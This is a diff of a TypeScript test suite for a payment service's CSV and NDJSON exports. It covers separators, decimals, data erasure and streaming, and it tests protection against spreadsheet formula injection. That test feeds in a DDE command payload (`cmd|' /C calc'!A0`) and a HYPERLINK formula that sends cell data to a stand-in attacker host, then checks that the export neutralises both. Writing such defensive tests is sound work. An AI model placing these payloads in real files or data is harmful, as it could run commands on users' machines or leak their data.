@@ -15,195 +15,193 @@ import { open, send, TYPED } from '../support/customer.ts';
 import { type Harness, startHarness } from '../support/harness.ts';
 import { ANA, addReviewers, BEN } from '../support/reviewers.ts';
 import { createAt, SHOP } from '../support/shop.ts';
-import { ENGINES } from '../support/stores.ts';
 
 /** What spreadsheets take for the beginning of a formula. */
 const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 /** What they may drop from in front of one. */
 const UNSEEN = [' ', '  ', '\u00a0', '\u200b', '\ufeff', '\u2060', '\u3000', ' \ufeff\u200b'];
 
-for (const engine of ENGINES)
-  describe(engine, () => {
-    let harness: Harness;
-    before(async () => {
-      harness = await startHarness(engine, { configuration: SHOP });
-      await addReviewers(harness.service.journal);
-    });
-    after(() => harness.close());
-
-    async function exported(
-      format: 'csv' | 'ndjson',
-      filter: SearchFilter = {},
-      separator?: 'comma' | 'semicolon' | 'tab',
-    ): Promise<string> {
-      let text = '';
-      const options = { format, filter, separator, now: harness.clock.now() };
-      for await (const part of exportPayments(harness.service.database, options)) text += part;
-      return text;
-    }
-
-    test('No payments: a header row alone, and no line.', async () => {
-      assert.deepEqual(readCsv(await exported('csv')), [[...EXPORT_COLUMNS]]);
-      assert.equal(await exported('ndjson'), '');
-    });
-
-    test('Both formats tell the same: amounts and times as text, who paid from which account, nothing of a card.', async () => {
-      const { id } = await createAt(harness, 'transfer', { merchant_reference: 'A, "B"', amount: 1234.5 });
-      await send(await open(harness, id), TYPED.transfer);
-      const card = await createAt(harness, 'card');
-      await send(await open(harness, card.id), TYPED.card);
-      const rows = readCsvRows(await exported('csv'));
-      const objects = (await exported('ndjson'))
-        .trimEnd()
-        .split('\n')
-        .map((line) => JSON.parse(line));
-      assert.deepEqual(
-        rows.map(({ id }) => id),
-        [card.id, id],
-      );
-      const [, row] = rows;
-      assert.equal(row!.amount, '1234.50');
-      assert.equal(row!.merchant_reference, 'A, "B"');
-      assert.equal(row!.status, 'requires_review');
-      assert.equal(row!.payer_account, TYPED.transfer['transfer-iban']);
-      assert.match(row!.submitted_at!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00$/);
-      assert.equal(row!.decided_at, '');
-      for (const [i, object] of objects.entries()) {
-        assert.deepEqual(Object.keys(object), [...EXPORT_COLUMNS]);
-        for (const name of EXPORT_COLUMNS) {
-          const cell = rows[i]![name]!;
-          assert.ok(cell === (object[name] ?? '') || cell === `'${object[name]}`, name);
-        }
-      }
-      assert.doesNotMatch(JSON.stringify([rows, objects]), /4242/);
-    });
-
-    test('No cell begins as a formula does, and ids and amounts stay themselves.', async () => {
-      const made: string[] = [];
-      for (const start of STARTS.filter((one) => one >= ' ')) {
-        const text = `${start}cmd|' /C calc'!A0`;
-        const { id } = await harness.create({ merchant_reference: text, customer: { name: text } });
-        made.push(id);
-      }
-      const hidden = UNSEEN.flatMap((unseen) =>
-        ['=', '+', '-', '@', '＝'].map((start) => `${unseen}${start}1+1`),
-      );
-      for (const description of hidden) made.push((await harness.create({ description })).id);
-      // Nothing that could be a formula: it stays as it is.
-      const harmless = ['\u00a0Socks', "'=1", '1-1', '\u200b', ' (-1)'];
-      for (const description of harmless) made.push((await harness.create({ description })).id);
-      const semicolon = ';=HYPERLINK("http://evil.example/?"&A1);';
-      made.push((await harness.create({ description: semicolon })).id);
-      // Text over several lines may begin with a tab or a line break.
-      for (const start of ['\t', '\n']) made.push((await harness.create({ description: `${start}=1+1` })).id);
-      const records = readCsv(await exported('csv'));
-      for (const record of records)
-        for (const cell of record) assert.ok(!STARTS.some((start) => cell.startsWith(start)), cell);
-      const rows = readCsvRows(await exported('csv', { merchant_id: 'mer_development' }));
-      assert.deepEqual(rows.map(({ id }) => id).sort(), made.sort());
-      for (const row of rows) assert.equal(row.amount, '49.90');
-      assert.ok(rows.some(({ merchant_reference }) => merchant_reference === "'=cmd|' /C calc'!A0"));
-      const told = rows.map(({ description }) => description);
-      for (const text of hidden) assert.ok(told.includes(`'${text}`), JSON.stringify(text));
-      assert.ok(told.includes(semicolon.replace(';=', ";'=")), 'a cell of its own in half of Europe');
-      for (const text of harmless) assert.ok(told.includes(text), JSON.stringify(text));
-    });
-
-    test('A spreadsheet gets a byte order mark, its own separator and its own decimals, and no formula.', async () => {
-      const { id } = await harness.create({ amount: 1234.5, description: 'a;b', customer: { name: '=1+1' } });
-      const csv = (separator?: 'comma' | 'semicolon' | 'tab') => exported('csv', { ids: [id] }, separator);
-      assert.match(await csv(), /^id,created_at,/);
-      assert.match(await csv('comma'), /^\ufeffid,created_at,.*\r\npay_.*,1234\.50,USD,.*,'=1\+1,/s);
-      assert.match(
-        await csv('semicolon'),
-        /^\ufeffid;created_at;.*\r\npay_.*;1234,50;USD;.*;"a;b";.*;'=1\+1;/s,
-      );
-      assert.match(await csv('tab'), /^\ufeffid\tcreated_at\t.*\r\npay_.*\t1234\.50\tUSD\t.*\t'=1\+1\t/s);
-    });
-
-    test('Who decided, the bank reference and the notes stand in it, until the payment is erased.', async () => {
-      const rowOf = async (id: string) => readCsvRows(await exported('csv', { ids: [id] }))[0]!;
-      const { journal } = harness.service;
-      const { id } = await harness.create();
-      await submit(harness, id);
-      await journal.commit((transaction) => addNote(transaction, BEN, id, 'Seen', 'req_n'), id);
-      assert.equal((await rowOf(id)).decided_by, '');
-      const approval = { note: '+ok', bank_reference: 'B-7', version: null };
-      await journal.commit((transaction) => approve(transaction, ANA, id, approval, {}, 'req_a'), id);
-      const row = await rowOf(id);
-      assert.equal(row.decided_by, 'Ana');
-      assert.equal(row.bank_reference, 'B-7');
-      assert.equal(row.note, 'Seen\n+ok');
-      await erase(harness, id);
-      const { decided_by, bank_reference, note } = await rowOf(id);
-      assert.deepEqual([decided_by, bank_reference, note], ['', '', '']);
-    });
-
-    test('Money that was recorded stands in it with its day, as a number to spreadsheets, until the payment is erased.', async () => {
-      const { journal } = harness.service;
-      const { id } = await harness.create({ amount: 50 });
-      const bare = await harness.create();
-      const csv = (separator?: 'semicolon') => exported('csv', { ids: [id] }, separator);
-      const received = { amount_minor: 123450, received_on: '2026-11-20', bank_reference: null };
-      const money = { ...received, note: null, version: null };
-      await journal.commit((transaction) => recordMoney(transaction, ANA, id, money, 'req_r'), id);
-      const [row] = readCsvRows(await csv());
-      assert.deepEqual([row!.received_amount, row!.received_on], ['1234.50', '2026-11-20']);
-      assert.match(await csv('semicolon'), /;1234,50;2026-11-20\r\n$/);
-      await decide(harness, id);
-      await erase(harness, id);
-      for (const one of [id, bare.id]) {
-        const [empty] = readCsvRows(await exported('csv', { ids: [one] }));
-        assert.deepEqual([empty!.received_amount, empty!.received_on], ['', '']);
-      }
-    });
-
-    test('How a payment was paid is told after its personal data is erased, and of one from before there was a column.', async () => {
-      const rowOf = async (id: string) => readCsvRows(await exported('csv', { ids: [id] }))[0]!;
-      const { id } = await harness.create();
-      await submit(harness, id);
-      await decide(harness, id);
-      await erase(harness, id);
-      const erased = await rowOf(id);
-      assert.equal(erased.method, 'details');
-      assert.equal(erased.payer_name, '');
-      const { database } = harness.service;
-      const old: Pick<Database, 'query'> = {
-        query: async <R>() => {
-          const [row] = await database.query<Payment>('select * from payments where id = ?', id);
-          return [{ ...row, method: null, submission: '{"method":"bank_transfer"}' }] as R[];
-        },
-      };
-      const options = { format: 'csv', filter: {}, now: harness.clock.now() } as const;
-      let text = '';
-      for await (const part of exportPayments(old, options)) text += part;
-      assert.equal(readCsvRows(text)[0]!.method, 'bank_transfer');
-    });
-
-    test('A reader that stops reading is not read ahead of by more than a few pages.', async () => {
-      const MANY = 2200;
-      for (let i = 0; i < MANY; i += 220)
-        await Promise.all(Array.from({ length: 220 }, () => harness.create({ merchant_reference: 'MANY' })));
-      let pages = 0;
-      const { database } = harness.service;
-      const counted: Pick<Database, 'query'> = {
-        query(sql, ...values) {
-          if (sql.includes(' as branch0')) pages++;
-          return database.query(sql, ...values);
-        },
-      };
-      const stream = exportStream(counted, {
-        format: 'ndjson',
-        filter: { reference: 'MANY' },
-        now: harness.clock.now(),
-      });
-      const parts = stream[Symbol.asyncIterator]();
-      await parts.next();
-      await sleep(100);
-      assert.ok(pages <= 3, `${pages} pages were read for one`);
-      let lines = 0;
-      for await (const part of { [Symbol.asyncIterator]: () => parts })
-        lines += String(part).split('\n').length - 1;
-      assert.equal(lines, MANY - 500);
-    });
+describe('exports of payments', () => {
+  let harness: Harness;
+  before(async () => {
+    harness = await startHarness('sqlite', { configuration: SHOP });
+    await addReviewers(harness.service.journal);
   });
+  after(() => harness.close());
+
+  async function exported(
+    format: 'csv' | 'ndjson',
+    filter: SearchFilter = {},
+    separator?: 'comma' | 'semicolon' | 'tab',
+  ): Promise<string> {
+    let text = '';
+    const options = { format, filter, separator, now: harness.clock.now() };
+    for await (const part of exportPayments(harness.service.database, options)) text += part;
+    return text;
+  }
+
+  test('No payments: a header row alone, and no line.', async () => {
+    assert.deepEqual(readCsv(await exported('csv')), [[...EXPORT_COLUMNS]]);
+    assert.equal(await exported('ndjson'), '');
+  });
+
+  test('Both formats tell the same: amounts and times as text, who paid from which account, nothing of a card.', async () => {
+    const { id } = await createAt(harness, 'transfer', { merchant_reference: 'A, "B"', amount: 1234.5 });
+    await send(await open(harness, id), TYPED.transfer);
+    const card = await createAt(harness, 'card');
+    await send(await open(harness, card.id), TYPED.card);
+    const rows = readCsvRows(await exported('csv'));
+    const objects = (await exported('ndjson'))
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    assert.deepEqual(
+      rows.map(({ id }) => id),
+      [card.id, id],
+    );
+    const [, row] = rows;
+    assert.equal(row!.amount, '1234.50');
+    assert.equal(row!.merchant_reference, 'A, "B"');
+    assert.equal(row!.status, 'requires_review');
+    assert.equal(row!.payer_account, TYPED.transfer['transfer-iban']);
+    assert.match(row!.submitted_at!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00$/);
+    assert.equal(row!.decided_at, '');
+    for (const [i, object] of objects.entries()) {
+      assert.deepEqual(Object.keys(object), [...EXPORT_COLUMNS]);
+      for (const name of EXPORT_COLUMNS) {
+        const cell = rows[i]![name]!;
+        assert.ok(cell === (object[name] ?? '') || cell === `'${object[name]}`, name);
+      }
+    }
+    assert.doesNotMatch(JSON.stringify([rows, objects]), /4242/);
+  });
+
+  test('No cell begins as a formula does, and ids and amounts stay themselves.', async () => {
+    const made: string[] = [];
+    for (const start of STARTS.filter((one) => one >= ' ')) {
+      const text = `${start}cmd|' /C calc'!A0`;
+      const { id } = await harness.create({ merchant_reference: text, customer: { name: text } });
+      made.push(id);
+    }
+    const hidden = UNSEEN.flatMap((unseen) =>
+      ['=', '+', '-', '@', '＝'].map((start) => `${unseen}${start}1+1`),
+    );
+    for (const description of hidden) made.push((await harness.create({ description })).id);
+    // Nothing that could be a formula: it stays as it is.
+    const harmless = ['\u00a0Socks', "'=1", '1-1', '\u200b', ' (-1)'];
+    for (const description of harmless) made.push((await harness.create({ description })).id);
+    const semicolon = ';=HYPERLINK("http://evil.example/?"&A1);';
+    made.push((await harness.create({ description: semicolon })).id);
+    // Text over several lines may begin with a tab or a line break.
+    for (const start of ['\t', '\n']) made.push((await harness.create({ description: `${start}=1+1` })).id);
+    const records = readCsv(await exported('csv'));
+    for (const record of records)
+      for (const cell of record) assert.ok(!STARTS.some((start) => cell.startsWith(start)), cell);
+    const rows = readCsvRows(await exported('csv', { merchant_id: 'mer_development' }));
+    assert.deepEqual(rows.map(({ id }) => id).sort(), made.sort());
+    for (const row of rows) assert.equal(row.amount, '49.90');
+    assert.ok(rows.some(({ merchant_reference }) => merchant_reference === "'=cmd|' /C calc'!A0"));
+    const told = rows.map(({ description }) => description);
+    for (const text of hidden) assert.ok(told.includes(`'${text}`), JSON.stringify(text));
+    assert.ok(told.includes(semicolon.replace(';=', ";'=")), 'a cell of its own in half of Europe');
+    for (const text of harmless) assert.ok(told.includes(text), JSON.stringify(text));
+  });
+
+  test('A spreadsheet gets a byte order mark, its own separator and its own decimals, and no formula.', async () => {
+    const { id } = await harness.create({ amount: 1234.5, description: 'a;b', customer: { name: '=1+1' } });
+    const csv = (separator?: 'comma' | 'semicolon' | 'tab') => exported('csv', { ids: [id] }, separator);
+    assert.match(await csv(), /^id,created_at,/);
+    assert.match(await csv('comma'), /^\ufeffid,created_at,.*\r\npay_.*,1234\.50,USD,.*,'=1\+1,/s);
+    assert.match(
+      await csv('semicolon'),
+      /^\ufeffid;created_at;.*\r\npay_.*;1234,50;USD;.*;"a;b";.*;'=1\+1;/s,
+    );
+    assert.match(await csv('tab'), /^\ufeffid\tcreated_at\t.*\r\npay_.*\t1234\.50\tUSD\t.*\t'=1\+1\t/s);
+  });
+
+  test('Who decided, the bank reference and the notes stand in it, until the payment is erased.', async () => {
+    const rowOf = async (id: string) => readCsvRows(await exported('csv', { ids: [id] }))[0]!;
+    const { journal } = harness.service;
+    const { id } = await harness.create();
+    await submit(harness, id);
+    await journal.commit((transaction) => addNote(transaction, BEN, id, 'Seen', 'req_n'), id);
+    assert.equal((await rowOf(id)).decided_by, '');
+    const approval = { note: '+ok', bank_reference: 'B-7', version: null };
+    await journal.commit((transaction) => approve(transaction, ANA, id, approval, {}, 'req_a'), id);
+    const row = await rowOf(id);
+    assert.equal(row.decided_by, 'Ana');
+    assert.equal(row.bank_reference, 'B-7');
+    assert.equal(row.note, 'Seen\n+ok');
+    await erase(harness, id);
+    const { decided_by, bank_reference, note } = await rowOf(id);
+    assert.deepEqual([decided_by, bank_reference, note], ['', '', '']);
+  });
+
+  test('Money that was recorded stands in it with its day, as a number to spreadsheets, until the payment is erased.', async () => {
+    const { journal } = harness.service;
+    const { id } = await harness.create({ amount: 50 });
+    const bare = await harness.create();
+    const csv = (separator?: 'semicolon') => exported('csv', { ids: [id] }, separator);
+    const received = { amount_minor: 123450, received_on: '2026-11-20', bank_reference: null };
+    const money = { ...received, note: null, version: null };
+    await journal.commit((transaction) => recordMoney(transaction, ANA, id, money, 'req_r'), id);
+    const [row] = readCsvRows(await csv());
+    assert.deepEqual([row!.received_amount, row!.received_on], ['1234.50', '2026-11-20']);
+    assert.match(await csv('semicolon'), /;1234,50;2026-11-20\r\n$/);
+    await decide(harness, id);
+    await erase(harness, id);
+    for (const one of [id, bare.id]) {
+      const [empty] = readCsvRows(await exported('csv', { ids: [one] }));
+      assert.deepEqual([empty!.received_amount, empty!.received_on], ['', '']);
+    }
+  });
+
+  test('How a payment was paid is told after its personal data is erased, and of one from before there was a column.', async () => {
+    const rowOf = async (id: string) => readCsvRows(await exported('csv', { ids: [id] }))[0]!;
+    const { id } = await harness.create();
+    await submit(harness, id);
+    await decide(harness, id);
+    await erase(harness, id);
+    const erased = await rowOf(id);
+    assert.equal(erased.method, 'details');
+    assert.equal(erased.payer_name, '');
+    const { database } = harness.service;
+    const old: Pick<Database, 'query'> = {
+      query: async <R>() => {
+        const [row] = await database.query<Payment>('select * from payments where id = ?', id);
+        return [{ ...row, method: null, submission: '{"method":"bank_transfer"}' }] as R[];
+      },
+    };
+    const options = { format: 'csv', filter: {}, now: harness.clock.now() } as const;
+    let text = '';
+    for await (const part of exportPayments(old, options)) text += part;
+    assert.equal(readCsvRows(text)[0]!.method, 'bank_transfer');
+  });
+
+  test('A reader that stops reading is not read ahead of by more than a few pages.', async () => {
+    const MANY = 2200;
+    for (let i = 0; i < MANY; i += 220)
+      await Promise.all(Array.from({ length: 220 }, () => harness.create({ merchant_reference: 'MANY' })));
+    let pages = 0;
+    const { database } = harness.service;
+    const counted: Pick<Database, 'query'> = {
+      query(sql, ...values) {
+        if (sql.includes(' as branch0')) pages++;
+        return database.query(sql, ...values);
+      },
+    };
+    const stream = exportStream(counted, {
+      format: 'ndjson',
+      filter: { reference: 'MANY' },
+      now: harness.clock.now(),
+    });
+    const parts = stream[Symbol.asyncIterator]();
+    await parts.next();
+    await sleep(100);
+    assert.ok(pages <= 3, `${pages} pages were read for one`);
+    let lines = 0;
+    for await (const part of { [Symbol.asyncIterator]: () => parts })
+      lines += String(part).split('\n').length - 1;
+    assert.equal(lines, MANY - 500);
+  });
+});
